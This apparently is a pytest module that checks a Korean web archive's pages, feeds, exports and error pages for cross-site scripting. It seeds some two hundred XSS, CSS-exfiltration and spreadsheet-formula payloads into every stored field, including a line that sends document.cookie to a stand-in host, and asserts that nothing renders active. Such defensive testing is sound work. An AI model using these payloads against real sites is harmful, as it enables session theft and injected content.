"""Nothing that a board says becomes active in a reader's browser, wherever it is shown."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import itertools
import json
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode, urlsplit
from xml.etree import ElementTree

import pytest
from sample_archive import KO, Sample, png
from selectolax.lexbor import LexborHTMLParser, LexborNode

from pipelines.schema import VIEWS
from publish import safe
from publish.pages import ROUTES
from publish.server import settings


def payloads() -> Iterator[str]:
    """Some two hundred ways to put a script, a style or a request into a page."""
    calls = ("alert(1)", "fetch('//x.invalid/'+document.cookie)")
    for call in calls:
        yield from (
            f"<script>{call}</script>",
            f"<SCRIPT\n>{call}</SCRIPT\t>",
            f"<scr<script>ipt>{call}</scr</script>ipt>",
            f"</title><script>{call}</script>",
        )
        yield from (
            f'"><script>{call}</script>',
            f"'><script>{call}</script>",
            f"</textarea><script>{call}</script>",
            f"--><script>{call}</script><!--",
        )
        yield from (
            f"]]><script>{call}</script>",
            f"<noscript><p title='</noscript><img src=x onerror={call}>'>",
            f"<template><script>{call}</script></template>",
        )
    elements = (
        "img src=x",
        "svg",
        "body",
        "video src=x",
        "audio src=x",
        "input autofocus",
        "details open",
        "marquee",
        "a href=x",
        "div tabindex=1",
        "iframe",
        "math",
    )
    events = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "ONERROR")
    yield from (f"<{element} {event}=alert(1)>" for element, event in itertools.product(elements, events))
    schemes = (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        " javascript:",
        "&#106;avascript:",
        "javascript&colon;",
        "vbscript:",
    )
    yield from (f"<a href='{scheme}alert(1)'>x</a>" for scheme in schemes)
    yield from (f"{scheme}alert(1)" for scheme in schemes)
    yield from (
        f"<a href='{address}'>x</a>"
        for address in ("data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "blob:x", "view-source:x", "ftp://x")
    )
    yield from ("<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg/onload=alert(1)>")
    yield from ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>")
    yield from ("<style>*{background:url(//x.invalid)}</style>", "<p style='background:url(//x.invalid)'>", "<link rel=stylesheet href=//x.invalid>")
    yield from (
        "<iframe src=//x.invalid></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=//x.invalid>",
        "<embed src=//x.invalid>",
    )
    yield from (
        "<meta http-equiv=refresh content='0;url=//x.invalid'>",
        "<base href=//x.invalid>",
        "<form action=//x.invalid><button>x",
        "<isindex action=//x>",
    )
    yield from (
        "<img src=//x.invalid/p.gif>",
        "<img srcset='//x.invalid 1x'>",
        "<picture><source srcset=//x.invalid></picture>",
        "<input type=image src=//x.invalid>",
    )
    yield from (
        "<img src='/-/capture/1/payload'>",
        "<a href='//x.invalid' target=_top>x</a>",
        "<a ping=//x.invalid href=//y.invalid>x</a>",
        "<table background=//x.invalid>",
    )
    yield from (
        "{{ 7*7 }}{% raw %}",
        "${7*7}",
        '=HYPERLINK("//x.invalid")',
        "@SUM(1)|cmd",
        "+82-2-000",
        "\u202egnp.exe",
        "%3Cscript%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    )
    yield from (
        "<p>" * 400,
        "<div>" * 400,
        "<<<<>>>>",
        "<!--",
        "<![CDATA[",
        "<?php",
        "\x00<scr\x00ipt>",
        "＜script＞alert(1)＜/script＞",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    )


#: Our own drawings are the only SVG, and hold nothing but shapes and text.
_DEAD = (
    "script, style, link:not([rel=stylesheet]):not([rel=alternate]), iframe, object, embed, math, svg:not(.drawing):not(.bar),"
    " svg :not(rect):not(line):not(path):not(text):not(title), base, meta[http-equiv], frame, frameset, applet, video, audio,"
    " source, template, noscript"
)
_NAMES = {"q", "board", "year", "author", "state", "from", "to"}


def active(page: LexborHTMLParser) -> Iterator[str]:
    """Whatever in a page could run, style, load from elsewhere or lead where no reader should go."""
    yield from (f"<{node.tag}>" for node in page.css(_DEAD))
    for node in page.css("*"):
        for name, value in node.attributes.items():
            yield from _active_attribute(node, name.lower(), value or "")


def _active_attribute(node: LexborNode, name: str, value: str) -> Iterator[str]:
    if name.startswith("on") or name in ("style", "srcset", "background", "ping", "formaction", "target", "srcdoc", "data", "xlink:href", "poster"):
        yield f"{name} on <{node.tag}>"
    if name == "src" and not value.startswith(("/-/logo/", "/-/attachment/")):
        yield f"src={value}"
    if name == "action" and not value.startswith("/-/"):
        yield f"action={value}"
    if name == "name" and node.tag in ("input", "select") and value not in _NAMES:
        yield f"field {value}"
    if name == "href":
        parts = urlsplit(value.strip())
        if parts.scheme not in ("", "http", "https", "mailto", "tel"):
            yield f"href={value}"
        if parts.scheme in ("http", "https") and "noopener" not in (node.attributes.get("rel") or ""):
            yield f"unmarked link {value}"
        if (not parts.scheme and not value.startswith(("/", "#"))) or value.startswith("//"):
            yield f"href={value}"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Sample:
    """An archive in which every text from outside is a payload, in every field in turn."""
    sample = Sample(tmp_path_factory.mktemp("hostile"))
    sample.board(KO, "<script>alert(1)</script>", "ko", 3)
    sample.conn.execute(
        "UPDATE boards SET publisher = ?, url = 'javascript:alert(1)', site = ?, state = 'blocked', state_reason = ?, state_since = ?",
        ("<img src=x onerror=alert(1)>", "\"onload='", "<script>alert(1)</script>: <img src=x onerror=alert(1)>", "<script>alert(1)</script>"),
    )
    crawl = sample.crawl(KO, "failed", "<svg onload=alert(1)>")
    later = sample.crawl(KO, "failed", "<svg onload=alert(1)>: <script>alert(1)</script>", mode="<script>alert(1)</script>")
    for number, text in enumerate(payloads()):
        more = {"posted_raw": text, "category": text, "modified_at": text, "url": text if number % 2 else f"https://www.seoulsolution.kr/{number}"}
        post = sample.post(crawl, KO, str(number), text, text, text, author=text, state="listed" if number % 5 else "gone", **more)
        if number % 3 == 0:
            sample.revise(crawl, post, title=text + text, body_text=text * 2 + "\n서울", body_html=f"<p>{text}</p>", author="다른 사람")
        # bytes of its own, so that what nobody could read of it is said of it alone
        content = f"<script>alert({number})</script>".encode()
        sample.attach(crawl, post, text, text, content, text, text=f"서울 {text}", state=text if number % 4 == 0 else "present")
        sample.insert("documents", sha256=hashlib.sha256(content).hexdigest(), form=text, reason=text, characters=1, reader=text)
        sample.conn.execute("UPDATE revisions SET touched = ? WHERE post = ?", (json.dumps([text, "dates"]), post))
        sample.event(crawl, post, "gone", **{text: text, "evidence": text, "first_at": text, "from": text, "to": text, "page": text, "attachments": [text]})
        sample.event(crawl, post, "moved", **{"from": text, "to": text})
        (capture,) = sample.conn.execute("SELECT capture FROM posts WHERE id = ?", (post,)).fetchone()
        sample.insert("absences", post=post, crawl=crawl, at=sample.now(), evidence=text, capture=capture)
        sample.insert("comments", post=post, native_id="1", author=text, posted_at=text, body_text=text, state="present", capture=capture)
        sample.insert(
            "issues", crawl=crawl, board=KO, url=text, kind=text, message=text, selector=text, expected=text, found=text, at=text, capture=capture
        )  # fmt: skip
        sample.insert("acceptances", board=KO, crawl=crawl, kind=text, covers=json.dumps([text]), at=text, reason=text, ended_because=text)
        logo = b"<svg onload='alert(1)'/>" if number % 2 else png(2, 2, (0, 0, 0))
        partner = sample.partner(crawl, KO, text, logo, alt=text, url=text, logo_url=text, description=text)
        if number % 3 == 1:
            sample.change_partner(later, partner, png(2, 2, (9, 9, 9)), name=text + text, alt=text * 2, url=text * 2, description=text * 2)
        sample.insert("partner_events", partner=partner, crawl=later, kind="gone", at=text, detail=json.dumps({"because": text}), capture=capture)
        sample.insert("partner_events", partner=partner, crawl=later, kind="restored", at=text, detail=text, capture=capture)
        linked = json.dumps({"url": text, "outcome": text, "status": text, "since": text})
        sample.insert("partner_events", partner=partner, crawl=later, kind="link_dead", at=text, detail=linked, capture=capture)
        (url,) = sample.conn.execute("UPDATE partners SET dead_since = ? WHERE id = ? RETURNING url", (text, partner)).fetchone()
        outcomes = ("gone", "elsewhere", text)
        sample.insert(
            "partner_links", board=KO, partner=partner, url=url, outcome=outcomes[number % 3], leads_to=text if number % 2 else f"https://a.invalid/{text}",
            checked_at=text, last_checked_at=text, confirmed_at=text, checks=2, crawl=crawl, confirmed_crawl=later, last_crawl=later,
        )  # fmt: skip
    return sample.close()


def test_there_are_enough_payloads() -> None:
    assert len(set(payloads())) >= 150


def addresses(hostile: Sample) -> list[str]:
    """Every page for people that shows a text from outside."""
    count = len(list(payloads()))
    paths = ["/", "/-/crawls", "/-/charts", f"/-/charts?board={KO}", f"/-/partners/{KO}", "/-/search?q=alert", "/-/search?q=%3Cscript%3Ealert(1)%3C/script%3E"]
    lists = (f"/-/board/{KO}?", "/-/issues?", "/-/changes?", "/-/changes?since=1&", "/-/search?q=script&", "/-/search?q=서울&")
    paths += [f"{path}page={page}" for path in lists for page in range(1, count // 30 + 3)]
    for post in range(1, count + 1):
        paths += [f"/-/post/{post}", f"/-/post/{post}?version=1", f"/-/post/{post}/evidence"]
        paths += [f"/-/post/{post}/compare/1/2", f"/-/post/{post}/compare/1/2?view=inline"] if post % 3 == 1 else []
    reader = sqlite3.connect(hostile.archive)
    captures = reader.execute("SELECT min(id) FROM captures GROUP BY url, media_type").fetchall()
    authors = reader.execute("SELECT DISTINCT author FROM posts WHERE author <> ''").fetchall()
    reader.close()
    return paths + [f"/-/capture/{capture}" for (capture,) in captures] + [f"/-/author?{urlencode({'name': author})}" for (author,) in authors]


@pytest.mark.fault(61)
def test_nothing_hostile_is_active_on_any_page(hostile: Sample) -> None:
    served = settings(hostile.archive)

    async def check() -> None:
        for path in addresses(hostile):
            answer = await served.client.get(path)
            # a name of nothing but spaces and marks that nobody sees is no author's
            assert answer.status_code == 200 or path.startswith("/-/author"), path
            assert list(active(LexborHTMLParser(answer.text))) == [], path

    asyncio.run(check())


@pytest.mark.fault(61)
def test_reasons_of_redactions_are_never_active(tmp_path: Path) -> None:
    """The page of a redacted post shows the reason that was given, and nothing else of it."""
    sample = Sample(tmp_path)
    sample.board(KO, "게시판", "ko", None)
    crawl = sample.crawl(KO)
    post = sample.post(crawl, KO, "1", "글", "글", "글")
    redaction = sample.insert("redactions", post=post, at="2025-03-01T00:00:00Z", reason="", asked_by="<script>alert(1)</script>")
    sample.conn.execute("UPDATE posts SET redaction = ?", (redaction,))
    served = settings(sample.close().archive)
    writer = sqlite3.connect(sample.archive)

    async def check() -> None:
        for text in payloads():
            writer.execute("UPDATE redactions SET reason = ?, at = ?", (text, text))
            writer.commit()
            answer = await served.client.get(f"/-/post/{post}")
            assert answer.status_code == 410
            assert list(active(LexborHTMLParser(answer.text))) == [], text

    asyncio.run(check())
    writer.close()


@pytest.mark.fault(61)
def test_nothing_hostile_is_active_in_an_error(hostile: Sample) -> None:
    """What a reader's own address holds comes back on error pages, in forms and in links."""
    served, public = settings(hostile.archive), settings(hostile.archive, public=True)

    async def check() -> None:
        for number, text in enumerate(payloads()):
            asked = urlencode({"q": text})[2:]
            paths = [f"/archive/posts?_sort={asked}", f"/-/search?q={asked}&board={asked}&author={asked}&from={asked}&lang={asked}"]
            # these say nothing of what was asked
            paths += [f"/-/{asked}", f"/archive?sql={asked}"] if number % 10 == 0 else []
            for path in paths:
                answer = await (public if "sql=" in path else served).client.get(path)
                assert answer.status_code < 500, path
                assert list(active(LexborHTMLParser(answer.text))) == [], path

    asyncio.run(check())


@pytest.mark.fault(61)
def test_answers_for_programs_are_never_documents(hostile: Sample) -> None:
    """JSON is JSON and sandboxed whatever it holds; the pieces of HTML in it are dead; exports are downloads, their cells no formulas."""
    served = settings(hostile.archive)

    async def check() -> None:
        paths = [f"/-/post/{post}.json" for post in range(1, len(list(payloads())) + 1)]
        for path in (*paths, "/-/changes.json?limit=500", "/-/search.json?q=script", "/-/search.json?q=서울", "/-/openapi.json"):
            answer = await served.client.get(path)
            assert answer.headers["content-type"] == "application/json; charset=utf-8"
            assert "sandbox" in answer.headers["content-security-policy"], path
            told = answer.json()
            pieces = [told.get("body_clean") or ""] + [piece["excerpt"] for hit in told.get("results", ()) for piece in (hit, *hit["files"])]
            for piece in pieces:
                assert list(active(LexborHTMLParser(f"<div>{piece}</div>"))) == [], path
        for path in (f"/-/board/{KO}/posts", "/-/search/posts"):
            for form in ("csv", "jsonl", "xlsx", "atom"):
                answer = await served.client.get(f"{path}.{form}?q=script")
                assert answer.headers["content-disposition"].startswith("attachment;"), path
                assert "sandbox" in answer.headers["content-security-policy"], path
                assert not answer.headers["content-type"].startswith("text/html"), path
                if form == "csv":
                    begun = {cell.strip()[:1] for row in csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"), newline="")) for cell in row}
                    assert len(begun) > 10
                    assert not begun & set("=+-@＝＋－＠"), path

    asyncio.run(check())


def test_every_address_of_the_reading_room_is_held_against_the_payloads(hostile: Sample) -> None:
    """A page that comes new must be added to what is asked above."""
    others = ["/-/post/1.json", "/-/changes.json", "/-/search.json", "/-/openapi.json", f"/-/board/{KO}/posts.csv", "/-/search/posts.csv"]
    others += ["/-/feed.atom", "/-/feed.json", "/-/partner-feed.atom", "/-/partner-feed.json", f"/-/partners/{KO}.json", "/-/attachment/1", "/-/attachment/1/image", "/-/logo/1"]
    # bytes of the archive as they are, under a policy that lets nothing run; or nothing from outside at all
    others += ["/-/capture/1/payload", "/-/logo/1/1", "/-/panjeon.css", "/robots.txt"]
    asked = [path.partition("?")[0] for path in (*addresses(hostile), *others)]
    assert [pattern for pattern, _ in ROUTES if not any(re.match(pattern, path) for path in asked)] == []


@pytest.mark.fault(61)
def test_nothing_hostile_is_active_in_a_feed(hostile: Sample) -> None:
    served = settings(hostile.archive)

    async def check(path: str) -> int:
        seen = 0
        while path:
            feed = (await served.client.get(path)).json()
            atom = ElementTree.fromstring((await served.client.get(path.replace(".json", ".atom"))).content)
            told = [entry.findtext("{http://www.w3.org/2005/Atom}content") for entry in atom.iter("{http://www.w3.org/2005/Atom}entry")]
            assert told == [item["content_html"] for item in feed["items"]]
            for item in feed["items"]:
                content = item["content_html"].replace('"http://localhost/-/', '"/-/')
                assert list(active(LexborHTMLParser(f"<div>{content}</div>"))) == [], item["title"]
                assert urlsplit(item.get("external_url", "https:")).scheme in ("http", "https", "mailto", "tel")
                seen += 1
            path = feed.get("next_url", "").removeprefix("http://localhost")
        return seen

    assert asyncio.run(check("/-/feed.json?lang=ko")) > 2 * len(list(payloads()))
    assert asyncio.run(check("/-/partner-feed.json?lang=ko")) > 2 * len(list(payloads()))


def test_files_and_logos_are_never_documents(hostile: Sample) -> None:
    served = settings(hostile.archive)

    async def check() -> None:
        for number in range(1, len(list(payloads())) + 1):
            file, image, logo = [
                await served.client.get(f"/-/{path}") for path in (f"attachment/{number}", f"attachment/{number}/image", f"logo/{number}")
            ]
            assert file.headers["content-type"] == "application/octet-stream"
            assert file.headers["content-disposition"].startswith("attachment; filename=")
            assert "\n" not in file.headers["content-disposition"]
            assert image.status_code == 404
            assert (logo.status_code, logo.headers["content-type"]) in ((200, "image/png"), (404, "text/html; charset=utf-8"))

    asyncio.run(check())


@pytest.mark.fault(61)
@pytest.mark.parametrize("payload", list(payloads()))
def test_a_cleaned_body_holds_nothing_active(payload: str) -> None:
    for markup in (payload, f"<p>{payload}</p>", f"<table><tr><td>{payload}", f"<b><i>{payload}</b></i>", payload * 3):
        cleaned = safe.body(markup, "https://www.seoulsolution.kr/ko/node/1", {"https://www.seoulsolution.kr/x": "/-/attachment/1/image"})
        if cleaned is not None:
            assert list(active(LexborHTMLParser(f"<div>{cleaned}</div>"))) == []


def test_the_check_itself_finds_what_is_active() -> None:
    for markup in (
        "<script></script>",
        "<p onclick=x>",
        "<img src=//x>",
        "<a href=javascript:x>",
        "<a href=https://x/>x</a>",
        "<form action=//x>",
        "<p style=x>",
    ):
        assert list(active(LexborHTMLParser(markup))), markup


def test_nothing_hostile_is_active_in_any_of_datasettes_tables(hostile: Sample) -> None:
    """Datasette's own pages have scripts and forms of their own: none may hold a word of a board, and no other element may act."""
    served = settings(hostile.archive)
    tables = ("posts", "revisions", "events", "attachments", "partners", "partner_links", "issues", "documents", "crawls", "acceptances", *VIEWS)

    async def check() -> None:
        paths = [f"/archive/{name}?_size=200" for name in tables] + ["/archive/posts/1", "/archive/boards", "/archive?sql=select+*+from+issues"]
        for path in paths:
            answer = await served.client.get(path)
            assert answer.status_code == 200, path
            page = LexborHTMLParser(answer.text)
            assert not [node for node in page.css("script, style") if "alert(" in node.text()], path
            assert not page.css("iframe, object, embed, math, video, audio, template, noscript, base, meta[http-equiv], svg [href]"), path
            for node in page.css("*"):
                names = [name.lower() for name in node.attributes]
                assert not [name for name in names if name.startswith("on") or name in ("srcdoc", "srcset", "formaction", "ping", "background")], path
            for link in page.css("a[href]"):
                assert urlsplit((link.attributes["href"] or "").strip()).scheme in ("", "http", "https"), path

    asyncio.run(check())
